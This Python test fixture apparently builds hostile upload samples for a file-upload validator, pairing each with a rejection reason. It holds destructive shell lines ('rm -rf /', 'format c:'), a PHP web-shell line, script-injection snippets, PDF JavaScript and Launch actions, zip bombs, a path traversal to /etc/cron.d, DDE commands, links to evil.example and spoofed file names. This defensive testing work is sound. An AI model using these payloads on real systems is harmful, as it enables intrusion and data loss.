"""Files that mean harm or hide something, made here: each is refused, for this reason."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path

from backend.uploads.unfit import Why
from tests.uploads.hostile_office import HOSTILE_OFFICE
from tests.uploads.hostile_opendocument import HOSTILE_OPENDOCUMENT
from tests.uploads.hostile_others import HOSTILE_OTHERS
from tests.uploads.samples import (
    KINDS,
    OFFICE,
    RELATIONS,
    heic,
    jpeg,
    office,
    office_parts,
    opendocument,
    override,
    packed,
    pdf,
    png,
    stream,
    word,
)

ACTION = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
PAGE = b"<html><script>alert(1)</script></html>"
CFB = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
EXTERNAL = (
    b'<Relationship Type="http://x/relationships/%s" Target="http://evil.example/x" TargetMode="External"/>'
)


def chunk(kind: bytes, body: bytes) -> bytes:
    """One chunk of a PNG."""
    return len(body).to_bytes(4, "big") + kind + body + zlib.crc32(kind + body).to_bytes(4, "big")


def drawn(width: int, height: int, data: bytes, more: bytes = b"", tail: bytes = b"") -> bytes:
    """A PNG that says it is so large, and holds these bytes."""
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    body = header + more + chunk(b"IDAT", zlib.compress(data, 9)) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body + tail


def framed(width: int, height: int) -> bytes:
    """A JPEG that says it is so large."""
    data = bytearray(jpeg())
    at = data.index(b"\xff\xc0") + 5
    data[at : at + 4] = struct.pack(">HH", height, width)
    return bytes(data)


def locked(data: bytes) -> bytes:
    """A zip of which every file says it needs a password."""
    marked = bytearray(data)
    at = -1
    while (at := data.find(b"PK\x01\x02", at + 1)) >= 0:
        marked[at + 8] |= 1
    return bytes(marked)


def overlapping(times: int) -> bytes:
    """One packed file that a directory names many times: a few bytes that unpack to a lot (Fifield, 2019)."""
    whole = packed(office_parts() | {"word/x.xml": bytes(4_000_000)})
    start = whole.rindex(b"PK\x05\x06")
    directory = struct.unpack_from("<I", whole, start + 16)[0]
    entries = whole[directory:start]
    last = entries[entries.rindex(b"PK\x01\x02") :]
    more = b"".join(last.replace(b"word/x.xml", b"word/%04d" % number + b"x") for number in range(times))
    end = struct.pack(
        "<4s4H2IH", b"PK\x05\x06", 0, 0, 4 + times, 4 + times, len(entries + more), directory, 0
    )
    return whole[:directory] + entries + more + end


def lying(size: int) -> bytes:
    """A file in a zip that unpacks to more than it says."""
    data = bytearray(office("docx", {"word/x.xml": bytes(3_000_000)}))
    entry = data.rindex(b"PK\x01\x02")
    data[entry + 24 : entry + 28] = size.to_bytes(4, "little")
    return bytes(data)


def twice() -> bytes:
    """Two files of one name: which of them counts differs by reader."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, content in office_parts().items():
            archive.writestr(name, content)
        archive.writestr("word/DOCUMENT.xml", b"<other/>")
    return file.getvalue()


def between() -> bytes:
    """Bytes that no file of the zip owns."""
    whole = office()
    start = struct.unpack_from("<I", whole, whole.rindex(b"PK\x05\x06") + 16)[0]
    end = bytearray(whole[whole.rindex(b"PK\x05\x06") :])
    end[16:20] = (start + 200).to_bytes(4, "little")
    return whole[:start] + PAGE.ljust(200) + whole[start : whole.rindex(b"PK\x05\x06")] + bytes(end)


def many(count: int) -> bytes:
    return packed(office_parts() | {f"word/{number}.xml": b"" for number in range(count)})


def escaped(word: bytes) -> bytes:
    return b"".join(b"#%02x" % sign for sign in word)


def without_items() -> bytes:
    return heic().replace(b"iinf", b"iinx")


def wide_heic() -> bytes:
    data = heic()
    at = data.index(b"ispe") + 8
    return data[:at] + struct.pack(">II", 40_000, 40_000) + data[at + 8 :]


def objects(content: bytes, described: bytes = b"/Type /ObjStm /N 1 /First 5") -> bytes:
    return pdf(stream(content, described))


def turned_name(word: bytes) -> bytes:
    return b"<< /S /" + escaped(word) + b" >>"


HOSTILE: dict[str, tuple[bytes, Why]] = {
    # What was never a document.
    "leeg.pdf": (b"", Why.EMPTY),
    "windows.pdf": (b"MZ\x90\x00" + bytes(500), Why.PROGRAM),
    "linux.docx": (b"\x7fELF\x02\x01\x01" + bytes(500), Why.PROGRAM),
    "mac.jpg": (b"\xcf\xfa\xed\xfe" + bytes(500), Why.PROGRAM),
    "script.txt": (b"#!/bin/sh\nrm -rf /\n", Why.PROGRAM),
    "opdracht.txt": (b"@echo off\r\nformat c:\r\n", Why.PROGRAM),
    "snelkoppeling.pdf": (b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(80), Why.PROGRAM),
    "rijk.txt": (b"{\\rtf1\\ansi {\\object\\objdata 0105}}", Why.PROGRAM),
    "drukker.txt": (b"%!PS-Adobe-3.0\n(%pipe%id) (w) file\n", Why.PROGRAM),
    "java.docx": (packed({"META-INF/MANIFEST.MF": b"Main-Class: X", "X.class": b"\xca\xfe"}), Why.PROGRAM),
    "pagina.txt": (PAGE, Why.WEB_PAGE),
    "pagina.pdf": (b"  \n<!DOCTYPE html><body onload=alert(1)>", Why.WEB_PAGE),
    "pagina met merk.txt": (b"\xef\xbb\xbf<script>alert(1)</script>", Why.WEB_PAGE),
    "laat.txt": (b"Beste Sanne,\n\n<iframe src='//evil.example'></iframe>", Why.WEB_PAGE),
    "brief.mht": (b"MIME-Version: 1.0\nContent-Type: multipart/related\n\n", Why.WEB_PAGE),
    "gegevens.xml": (b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a/>', Why.WEB_PAGE),
    "php.txt": (b"<?php system($_GET['x']);", Why.WEB_PAGE),
    "plaatje.png": (b'<svg xmlns="x" onload="alert(1)"/>', Why.DRAWING),
    "plaatje.svg": (b'<?xml version="1.0"?>\n<svg xmlns="x"><script/></svg>', Why.DRAWING),
    "utf16.txt": ("Verslag".encode("utf-16"), Why.NOT_UTF8),
    "oud.txt": ("één".encode("latin-1"), Why.NOT_UTF8),
    "half.txt": ("één".encode()[:-1] + b"\xc3", Why.NOT_UTF8),
    "besturing.txt": (b"Verslag\x1b]0;rm\x07", Why.UNKNOWN),
    "ruis.bin": (bytes(range(1, 32)) * 20, Why.UNKNOWN),
    # Archives and the old Office.
    "map.zip": (packed({"foto.jpg": jpeg()}), Why.ARCHIVE),
    "map.7z": (b"7z\xbc\xaf\x27\x1c" + bytes(50), Why.ARCHIVE),
    "map.rar": (b"Rar!\x1a\x07\x01\x00" + bytes(50), Why.ARCHIVE),
    "map.gz": (b"\x1f\x8b\x08" + bytes(50), Why.ARCHIVE),
    "leeg.docx": (b"PK\x05\x06" + bytes(18), Why.ARCHIVE),
    "oud.doc": (CFB + bytes(2000), Why.OLD_OFFICE),
    "op slot.docx": (CFB + bytes(900) + "EncryptedPackage".encode("utf-16-le"), Why.LOCKED),
    "met wachtwoord.docx": (locked(office()), Why.LOCKED),
    # Office.
    "macro.docm": (office("docx", {"word/vbaProject.bin": b"x"}), Why.MACROS),
    "verstopt.docx": (office("docx", {"word/VBAPROJECT.BIN": b"x"}), Why.MACROS),
    "type.xlsx": (
        office("xlsx", types=override("/xl/b.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml")),
        Why.MACROS,
    ),
    "oude macro.xlsx": (office("xlsx", {"xl/macrosheets/sheet1.xml": b"<x/>"}), Why.MACROS),
    "knop.docx": (office("docx", {"word/activeX/activeX1.bin": b"x"}), Why.MACROS),
    "programma.docx": (office("docx", {"word/media/setup.exe": b"x"}), Why.HIDDEN),
    "vermomd.docx": (office("docx", {"word/media/image1.png": b"MZ\x90\x00"}), Why.HIDDEN),
    "ingebed.docx": (office("docx", {"word/embeddings/oleObject1.bin": b"x"}), Why.HIDDEN),
    "genest.docx": (
        office("docx", {"word/embeddings/a.xlsx": office("xlsx", {"xl/vbaProject.bin": b"x"})}),
        Why.MACROS,
    ),
    "diep.docx": (
        office(
            "docx",
            {"word/embeddings/a.docx": office("docx", {"word/embeddings/b.docx": office()})},
        ),
        Why.HIDDEN,
    ),
    "entiteit.docx": (
        office("docx", {"word/a.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}),
        Why.HIDDEN,
    ),
    "utf16.docx": (
        office("docx", {"word/a.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'.encode("utf-16")}),
        Why.HIDDEN,
    ),
    "sjabloon.docx": (
        office("docx", {"word/_rels/settings.xml.rels": RELATIONS % (EXTERNAL % b"attachedTemplate")}),
        Why.REMOTE,
    ),
    "object elders.docx": (
        office("docx", {"word/_rels/document.xml.rels": RELATIONS % (EXTERNAL % b"oleObject")}),
        Why.REMOTE,
    ),
    "dde.xlsx": (office("xlsx", {"xl/externalLinks/externalLink1.xml": b"<ddeLink x='cmd'/>"}), Why.REMOTE),
    "dde.docx": (office("docx", {"word/a.xml": word(b"<w:instrText>DDEAUTO cmd</w:instrText>")}), Why.REMOTE),
    "onbekend.docx": (packed({"[Content_Types].xml": b"<Types/>", "_rels/.rels": b""}), Why.UNKNOWN),
    "twee soorten.docx": (office("docx", types=override("/word/b.xml", KINDS["xlsx"][1])), Why.UNKNOWN),
    "xps.docx": (
        packed({"[Content_Types].xml": b"<Types/>", "_rels/.rels": b""}),
        Why.UNKNOWN,
    ),
    # OpenDocument.
    "macro.odt": (opendocument(more={"Basic/Standard/Module1.xml": b"<x/>"}), Why.MACROS),
    "python.ods": (opendocument("spreadsheet", {"Scripts/python/x.py": b"x"}), Why.MACROS),
    "gebeurtenis.odt": (opendocument(content=b"<script:event-listener/>"), Why.MACROS),
    "op slot.odt": (opendocument(manifest=b"<manifest:encryption-data/>"), Why.LOCKED),
    "elders.odt": (opendocument(content=b"<text:section-source xlink:href='http://x'/>"), Why.REMOTE),
    "tekening.odg": (opendocument("graphics"), Why.UNKNOWN),
    # Bombs, and zips that can be read in two ways.
    "bom.docx": (office("docx", {"word/x.xml": bytes(60_000_000)}), Why.BOMB),
    "bom.odt": (opendocument(more={"x.xml": bytes(60_000_000)}), Why.BOMB),
    "overlap.docx": (overlapping(20), Why.BOMB),
    "leugen.docx": (lying(1000), Why.DAMAGED),
    "veel.docx": (many(4100), Why.BOMB),
    "dubbel.docx": (twice(), Why.DAMAGED),
    "omhoog.docx": (office("docx", {"../../etc/cron.d/x": b"x"}), Why.DAMAGED),
    "vooraf.docx": (PAGE + office(), Why.WEB_PAGE),
    "achteraf.docx": (office() + PAGE, Why.HIDDEN),
    "ertussen.docx": (between(), Why.HIDDEN),
    "stuk.docx": (office()[:-40], Why.HIDDEN),
    # PDF.
    "javascript.pdf": (pdf(ACTION), Why.ACTIVE),
    "schuin.pdf": (pdf(turned_name(b"JavaScript")), Why.ACTIVE),
    "half schuin.pdf": (pdf(b"<< /S /Java#53cript >>"), Why.ACTIVE),
    "start.pdf": (pdf(b"<< /S /Launch /F (cmd.exe) >>"), Why.ACTIVE),
    "bijlage.pdf": (pdf(stream(b"MZ", b"/Type /EmbeddedFile")), Why.ACTIVE),
    "film.pdf": (pdf(b"<< /Subtype /RichMedia >>"), Why.ACTIVE),
    "verzend.pdf": (pdf(b"<< /S /SubmitForm /F (http://evil.example) >>"), Why.ACTIVE),
    "xfa.pdf": (pdf(b"<< /XFA 5 0 R >>"), Why.ACTIVE),
    "in objecten.pdf": (objects(b"9 0 " + ACTION), Why.ACTIVE),
    "in objecten zonder naam.pdf": (objects(b"9 0 " + ACTION, b"/N 1 /First 4"), Why.ACTIVE),
    "ver in objecten.pdf": (objects(b"9 0 " + b" " * 700_000 + turned_name(b"Launch")), Why.ACTIVE),
    "dubbel ingepakt.pdf": (
        pdf(
            b"<< /Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode] /Length 50 >>\nstream\n"
            + zlib.compress(zlib.compress(ACTION))
            + b"\nendstream"
        ),
        Why.TOO_COMPLEX,
    ),
    "andere code.pdf": (
        pdf(
            b"<< /Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode >>\nstream\n"
            + ACTION.hex().encode()
            + b">\nendstream"
        ),
        Why.TOO_COMPLEX,
    ),
    "bom.pdf": (objects(bytes(80_000_000)), Why.BOMB),
    "op slot.pdf": (pdf(b"<< /Filter /Standard >>", trailer=b"/Encrypt 4 0 R"), Why.LOCKED),
    "pagina voorin.pdf": (pdf(head=b"%<html><script>alert(1)</script>\n"), Why.HIDDEN),
    "zip achterin.pdf": (pdf(tail=packed({"a": b"b"})), Why.HIDDEN),
    "pagina achterin.pdf": (pdf(tail=PAGE), Why.HIDDEN),
    "zip erin.pdf": (pdf(stream(packed({"a": b"b"}), packed=False)), Why.HIDDEN),
    "afgebroken.pdf": (pdf()[:-30], Why.DAMAGED),
    # Pictures.
    "reus.jpg": (framed(65_000, 65_000), Why.PIXELS),
    "niets.jpg": (b"\xff\xd8\xff\xd9", Why.DAMAGED),
    "half.jpg": (jpeg()[:-40], Why.DAMAGED),
    "pagina.jpg": (b"\xff\xd8" + PAGE, Why.DAMAGED),
    "reus.png": (drawn(60_000, 60_000, b""), Why.PIXELS),
    "bom.png": (drawn(10, 10, bytes(50_000_000)), Why.BOMB),
    "te weinig.png": (drawn(100, 100, b"abc"), Why.DAMAGED),
    "pakket.png": (drawn(1, 1, bytes(4))[:-12] + chunk(b"EVIL", b"x") + chunk(b"IEND", b""), Why.DAMAGED),
    "som.png": (png().replace(b"IHDR\x00", b"IHDR\x01", 1), Why.DAMAGED),
    "half.png": (png()[:-20], Why.DAMAGED),
    "reus.heic": (wide_heic(), Why.PIXELS),
    "half.heic": (heic()[:-200], Why.DAMAGED),
    "zonder foto.heic": (without_items(), Why.DAMAGED),
    "film.mp4": (b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2" + bytes(50), Why.UNKNOWN),
    "plaatje.gif": (b"GIF89a\x01\x00\x01\x00" + bytes(20), Why.UNKNOWN),
    "plaatje.avif": (b"\x00\x00\x00\x18ftypavif\x00\x00\x00\x00avifmif1" + bytes(50), Why.UNKNOWN),
}
"""By name; the names say what they pretend to be."""
HOSTILE |= HOSTILE_OFFICE | HOSTILE_OPENDOCUMENT | HOSTILE_OTHERS

NAMES = [
    "foto\u202egpj.exe", "brief\u2066.pdf", "brief\u200f.pdf", "brief\x00.pdf", "brief\n.pdf",
    "brief\x1b[2J.pdf", "brief\u2028.pdf",
]  # fmt: skip
"""Each is refused for its name alone."""

__all__ = ["EICAR", "HOSTILE", "NAMES", "OFFICE", "Path"]
